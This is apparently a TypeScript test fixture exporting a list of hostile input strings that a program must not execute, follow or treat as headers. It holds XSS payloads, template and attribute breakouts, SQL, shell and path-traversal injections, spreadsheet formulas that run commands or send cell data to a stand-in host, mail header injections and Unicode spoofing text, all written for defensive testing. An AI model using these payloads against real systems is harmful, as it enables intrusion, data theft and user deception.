/**
 * What a payload does if it is ever executed: it logs a console error, which fails every test, and sets a
 * mark.
 */
const RUN = `window.executed=1,console.error('executed')`;

/** Markup that runs or loads something if it is treated as markup. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<img/src/onerror=${RUN}>`,
  `<image src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></use></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<math href="javascript:${RUN}">click</math>`,
  `<body onload="${RUN}">`,
  `<iframe src="javascript:parent.executed=1"></iframe>`,
  `<iframe srcdoc="<script>parent.executed=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="&#106;avascript:${RUN}">click</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<form><button formaction="javascript:${RUN}">go</button></form>`,
  `<base href="//evil.invalid/">`,
  `<link rel=stylesheet href="//evil.invalid/x.css">`,
  `<style>@import '//evil.invalid/x.css';*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=//evil.invalid/">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<plaintext>`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<dialog open onclose="${RUN}"><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<button popovertarget=x onclick="${RUN}">x</button><div popover id=x onbeforetoggle="${RUN}">`,
  `<div style="animation:spin 1s" onanimationstart="${RUN}">`,
  `<div style="position:fixed;inset:0;background:red;z-index:99999">over all</div>`,
  `<custom-element onclick="${RUN}" tabindex=0 autofocus onfocus="${RUN}">`,
];

/** Handlers of events that a page fires unprompted, or at the first touch. */
const HANDLERS = [
  ...['animationend', 'auxclick', 'beforematch', 'canplay', 'contentvisibilityautostatechange'],
  ...['dragenter', 'focusin', 'gotpointercapture', 'hashchange', 'keydown', 'loadstart', 'message'],
  ...['mouseenter', 'pagereveal', 'pageshow', 'pointerover', 'popstate', 'resize', 'scrollend'],
  ...[
    'securitypolicyviolation',
    'transitionrun',
    'unhandledrejection',
    'visibilitychange',
    'wheel',
  ],
].map((event) => `<p tabindex=0 autofocus on${event}="${RUN}">x</p>`);

/** Text that breaks out of an attribute, a string, a template, or a comment. */
const BREAKOUTS = [
  `" onmouseover="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  '` onmouseover=' + RUN,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `';${RUN};//`,
  `";${RUN};//`,
  '`;' + RUN + ';//',
  '${' + RUN + '}',
  `{{constructor.constructor("${RUN}")()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `*/${RUN}/*`,
  `-->${RUN}<!--`,
  `]]>${RUN}`,
  `{"__proto__":{"executed":1}}`,
  `__proto__`,
  `constructor`,
  `'; drop table conversations; --`,
  `" or 1=1 --`,
  `%' union select session_id from conversations --`,
  `../../../../etc/passwd`,
  `\\\\evil.invalid\\share`,
  `$(touch executed)`,
  '`touch executed`',
  `| touch executed`,
];

/** Addresses that a program might follow. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\u00adscript:${RUN}`,
  `javascript://evil.invalid/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5leGVjdXRlZD0xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  `blob:https://evil.invalid/1`,
  `file:///etc/passwd`,
  `//evil.invalid/path`,
  `http://evil.invalid" onclick="${RUN}`,
  `http://evil.invalid/<script>${RUN}</script>`,
  `https://tesseraworks.example@evil.invalid/`,
  `https://evil.invalid/\u202egpj.exe`,
  `https://xn--80ak6aa92e.invalid/`,
  `mailto:a@evil.invalid?bcc=b@evil.invalid&body=<script>`,
  `mailto:a@evil.invalid%0d%0abcc:b@evil.invalid`,
  `intent://evil.invalid#Intent;scheme=http;end`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
];

/** What spreadsheets compute. */
const FORMULAS = ['=', '+', '-', '@', '＝', '＋', '－', '＠']
  .flatMap((sign) => [
    `${sign}cmd|' /C calc'!A0`,
    `${sign}HYPERLINK("http://evil.invalid?x="&A1,"click")`,
    `${sign}1+1`,
  ])
  .concat(
    ["'=1+1", '"=1+1"', '\u200b=1+1', '\ufeff=1+1', '\u00a0=1+1', '\u2060@SUM(A1)'],
    ['=IMPORTXML("http://evil.invalid","//a")', '=WEBSERVICE("http://evil.invalid")'],
    ['=DDE("cmd";"/C calc";"x")', ';=1+1', ',=1+1', '|=1+1', '%0A=1+1', '=1+1\u2028=2+2'],
  );

/** Lines that a careless mailer takes for headers or recipients. */
const HEADERS = [
  'Bcc: victim@evil.invalid',
  'x%0d%0aBcc: victim@evil.invalid',
  'x\\r\\nBcc: victim@evil.invalid',
  'x\u2028Bcc: victim@evil.invalid',
  'x\u2029Subject: changed',
  '=?utf-8?Q?x=0D=0ABcc:_victim@evil.invalid?=',
  '=?utf-8?B?DQpCY2M6IHZpY3RpbUBldmlsLmludmFsaWQ=?=',
  '"Ann" <victim@evil.invalid>, Bob',
  'Ann <victim@evil.invalid>',
  'a@evil.invalid, b@evil.invalid; c@evil.invalid',
  'MAIL FROM:<victim@evil.invalid>',
  'Content-Type: text/html; boundary=x',
  '--boundary--',
  '.',
  'QUIT',
];

/** Text that is hard to lay out or to read. */
const UNREADABLE = [
  '\u202egnp.exe',
  '\u202e\u202e\u202e reversed three times',
  '\u2066\u2067\u2068 isolates without an end',
  'safe\u202c\u202dtxt.\u202eexe',
  'مرحبا، نحتاج إلى متجر إلكتروني',
  'שלום, אנחנו צריכים אתר',
  'Z\u0335\u0321a\u0335\u0327l\u0334\u0328g\u0335\u0322o\u0336\u0321'.repeat(12),
  'a' + '\u0301'.repeat(150),
  '👨‍👩‍👧‍👦'.repeat(16),
  '🏴‍☠️🏳️‍🌈',
  '\u200b\u200c\u200d\ufeff nothing to see',
  '\u00ad'.repeat(150) + 'x',
  'ﷺ'.repeat(60),
  '﷽'.repeat(60),
  'W'.repeat(190),
  'i'.repeat(190),
  '_'.repeat(190),
  'ａ'.repeat(190),
  'x '.repeat(90).trim(),
  'İıſKÅ',
  '\u{1d4d7}\u{1d4ee}\u{1d4f5}\u{1d4f5}\u{1d4f8}',
  '1\u20442',
  '\u3000wide spaces\u3000',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '[object Object]',
  '🄴🅅🄸🄻',
  '\u2800\u2800 braille blanks',
  '“smart” ‘quotes’ … — –',
  '\u{e0001}\u{e0041}\u{e0042} tags',
  '\u{1f3fb}',
  '\ufdd0 a noncharacter',
  'e\u0327\u0301\u0300\u0302',
  'ltr \u05d0\u05d1\u05d2 ltr (\u05d3) 123',
  'http://[::1]:65536/',
];

/**
 * More than two hundred single lines that have broken programs like this one, all of which the contract
 * accepts. Nothing in them must ever be executed, followed, computed, or taken for a header.
 */
export const HOSTILE_LINES: readonly string[] = [
  ...MARKUP,
  ...HANDLERS,
  ...BREAKOUTS,
  ...ADDRESSES,
  ...FORMULAS,
  ...HEADERS,
  ...UNREADABLE,
];
